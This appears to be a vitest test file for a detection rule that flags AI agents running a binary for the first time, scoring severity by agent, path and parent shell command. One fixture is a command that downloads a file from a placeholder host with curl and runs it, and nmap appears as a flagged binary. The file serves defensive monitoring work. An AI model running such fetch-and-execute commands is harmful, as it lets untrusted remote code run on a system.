import { expect, test } from "vitest";
import { type Agent, anExecOf, withCommand } from "../../../testing/commands.ts";
import { policyFor } from "../../../testing/engine.ts";
import { type Answer, answerOf, ruleTable } from "../../../testing/rule-table.ts";

ruleTable("first-seen-exec", {
  steps: [
    ["da1-01", "Medium"],
    ["da1-04", "Low"],
    ["da3-01", "Low"],
    ["da3-15", "Medium"],
  ],
  passes: [
    ["kubectl", "get pods"],
    ["git", "commit"],
    ["psql", "select count"],
    ["python", "-m pytest"],
  ],
});

test.each<[Agent, string, Answer]>([
  ["support-bot", "/usr/bin/nmap", "Medium"],
  ["research-agent", "/usr/bin/nmap", "Low"],
  ["coding-agent", "/usr/bin/nmap", "Low"],
  ["coding-agent", "/usr/bin/git", "none"],
  ["ops-agent", "/usr/local/bin/kubectl", "none"],
  ["support-bot", "/usr/bin/seq", "Low"],
  ["support-bot", "/sbin/ldconfig", "Low"],
  ["coding-agent", "/home/coder/.cargo/bin/cargo", "Low"],
  ["coding-agent", "/root/go/bin/stringer", "Low"],
  ["coding-agent", "/home/coder/.config/cargo", "Medium"],
  ["coding-agent", "/srv2/bin/cargo", "Medium"],
  ["support-bot", "/home/bot/.cargo/bin/cargo", "Medium"],
])("%s runs %s for the first time: %s, by what it uses to start", (agent, binary, answer) => {
  expect(answerOf("first-seen-exec", [withCommand(anExecOf(agent), binary, "x")])).toBe(answer);
});

test.each<[string, string, Answer]>([
  ["rustc -O -o /tmp/a.out /tmp/a.rs && /tmp/a.out", "/tmp/a.out", "none"],
  ["cd /tmp && gcc x.c -o ./x && ./x", "/tmp/x", "none"],
  ["python -m venv /tmp/e && /tmp/e/bin/pytest", "/tmp/e/bin/pytest", "none"],
  ["curl -o /tmp/a.out https://x.example/a && /tmp/a.out", "/tmp/a.out", "Medium"],
  ["rustc -o /tmp/b.out /tmp/a.rs && /tmp/a.out", "/tmp/a.out", "Medium"],
  ["python -m venv /tmp/e && /tmp/f/bin/pytest", "/tmp/f/bin/pytest", "Medium"],
])("of a shell that was told %s, %s is news: %s", (line, binary, answer) => {
  const event = withCommand(anExecOf("coding-agent"), binary, "");
  const parent = event.parent && { ...event.parent, binary: "/usr/bin/bash", arguments: `-lc "${line}"` };
  expect(answerOf("first-seen-exec", [{ ...event, parent }])).toBe(answer);
  // Who never compiles anything has no programs of his own.
  const other = withCommand(anExecOf("research-agent"), binary, "");
  expect(
    answerOf("first-seen-exec", [
      { ...other, parent: other.parent && { ...other.parent, binary: "/usr/bin/sh", arguments: `-c "${line}"` } },
    ]),
  ).not.toBe("none");
});

test("without a baseline nothing is a first time", () => {
  const event = withCommand(anExecOf("support-bot"), "/usr/bin/nmap", "x");
  expect(answerOf("first-seen-exec", [event], { isTrained: false })).toBe("none");
});

test("a declared program is no news", () => {
  const policies = [policyFor("support", { declared: { processes: [{ binary: "/usr/bin/nma?" }] } })];
  const event = withCommand(anExecOf("support-bot"), "/usr/bin/nmap", "x");
  expect(answerOf("first-seen-exec", [event], { policies })).toBe("none");
});

test("of a path that is longer than what is learned, both sides cut the same", () => {
  const binary = `/usr/bin/${"x".repeat(4000)}`;
  expect(answerOf("first-seen-exec", [withCommand(anExecOf("support-bot"), binary, "")])).toBe("Medium");
});
